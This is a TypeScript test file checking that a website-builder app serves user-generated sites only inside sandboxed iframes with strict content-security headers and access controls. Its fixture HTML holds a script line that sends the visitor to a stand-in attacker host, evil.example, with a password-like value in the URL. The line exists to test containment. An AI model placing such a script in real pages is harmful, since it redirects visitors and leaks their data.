import { createHash } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { websiteProjects } from '#server/db/schema/website-builder.ts';
import { createSignedInUser } from '#tests/support/factories.ts';
import { api, createTestApp, type TestContext } from '#tests/support/test-app.ts';

/**
 * A generated site runs only framed (decision 327): as a top-level document it could navigate
 * the visitor away under the app's address.
 */
let t: TestContext;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(() => t.close());

const HTML = `<!DOCTYPE html><html><body><h1>Sonnenbrot</h1>
<script>location = 'https://evil.example/?p=' + 'pw';</script></body></html>`;

async function createSite(userId: number, isPublic = false) {
  const [row] = await t.db
    .insert(websiteProjects)
    .values({ userId, name: 'Bäckerei "Sonne" <b>&</b>', htmlContent: HTML, isPublic })
    .returning({ projectId: websiteProjects.projectId });
  return `/api/codehub/websites/${row!.projectId}`;
}

const get = (url: string, cookie: string | undefined, dest?: string) =>
  api(t.app, {
    method: 'GET',
    url,
    ...(cookie ? { cookie } : {}),
    ...(dest ? { headers: { 'sec-fetch-dest': dest } } : {}),
  });

describe('GET /api/codehub/websites/:projectId/view', () => {
  it('answers the site, sandboxed, to an iframe', async () => {
    const { user, cookie } = await createSignedInUser(t.db);
    const base = await createSite(user.id);
    const view = await get(`${base}/view`, cookie, 'iframe');
    expect(view.statusCode).toBe(200);
    expect(view.body).toBe(HTML);
    expect(view.headers['content-security-policy']).toMatch(/^sandbox allow-scripts;/);
    expect(view.headers['content-security-policy']).not.toContain('allow-same-origin');
    expect(view.headers['content-security-policy']).not.toContain('allow-top-navigation');
    expect(view.headers.vary).toMatch(/Sec-Fetch-Dest/i);
  });

  it('opened as a page, sends the browser to the page that frames it', async () => {
    const { user, cookie } = await createSignedInUser(t.db);
    const base = await createSite(user.id);
    const view = await get(`${base}/view`, cookie, 'document');
    expect(view.statusCode).toBe(303);
    expect(new URL(view.headers.location!, `http://app.test${base}/view`).pathname).toBe(
      `${base}/full`,
    );
    expect(view.body).not.toContain('Sonnenbrot');
  });

  it('refuses every other way of loading it (no Fetch Metadata, fetch, object, embed)', async () => {
    const { user, cookie } = await createSignedInUser(t.db);
    const base = await createSite(user.id);
    for (const dest of [undefined, 'empty', 'object', 'embed', 'frame']) {
      const view = await get(`${base}/view`, cookie, dest);
      expect(view.statusCode, String(dest)).toBe(403);
      expect(view.json().code).toBe('PERMISSION_ERROR');
      expect(view.body).not.toContain('Sonnenbrot');
    }
  });
});

describe('GET /api/codehub/websites/:projectId/full', () => {
  it('is a page with no script that frames the view, sandboxed, over the whole window', async () => {
    const { user, cookie } = await createSignedInUser(t.db);
    const base = await createSite(user.id);
    const full = await get(`${base}/full`, cookie, 'document');
    expect(full.statusCode).toBe(200);
    expect(full.headers['content-type']).toBe('text/html; charset=utf-8');
    expect(full.headers['referrer-policy']).toBe('no-referrer');
    const csp = String(full.headers['content-security-policy']).split('; ');
    const style = /<style>([^<]*)<\/style>/.exec(full.body)![1]!;
    expect(csp).toEqual([
      "default-src 'none'",
      `style-src 'sha256-${createHash('sha256').update(style).digest('base64')}'`,
      "frame-src 'self'",
      "form-action 'none'",
      "base-uri 'none'",
      "frame-ancestors 'none'",
    ]);
    expect(full.body).not.toMatch(/<script|Sonnenbrot/i);
    const frames = full.body.match(/<iframe[^>]*>/g) ?? [];
    expect(frames).toEqual([
      '<iframe src="view" sandbox="allow-scripts" referrerpolicy="no-referrer" title="Bäckerei &quot;Sonne&quot; &lt;b&gt;&amp;&lt;/b&gt;">',
    ]);
    expect(new URL('view', `http://app.test${base}/full`).pathname).toBe(`${base}/view`);
    expect(full.body).toContain(
      '<title>Bäckerei &quot;Sonne&quot; &lt;b&gt;&amp;&lt;/b&gt;</title>',
    );
  });

  it('keeps private sites private and asks guests to sign in', async () => {
    const owner = await createSignedInUser(t.db);
    const other = await createSignedInUser(t.db);
    const secret = await createSite(owner.user.id);
    const shared = await createSite(owner.user.id, true);
    expect((await get(`${secret}/full`, other.cookie)).statusCode).toBe(404);
    expect((await get(`${secret}/view`, other.cookie, 'iframe')).statusCode).toBe(404);
    expect((await get(`${secret}/view`, other.cookie, 'document')).statusCode).toBe(404);
    expect((await get(`${shared}/full`, other.cookie)).statusCode).toBe(200);
    expect((await get(`${shared}/view`, other.cookie, 'iframe')).statusCode).toBe(200);
    expect((await get(`${shared}/full`, undefined)).statusCode).toBe(401);
  });
});
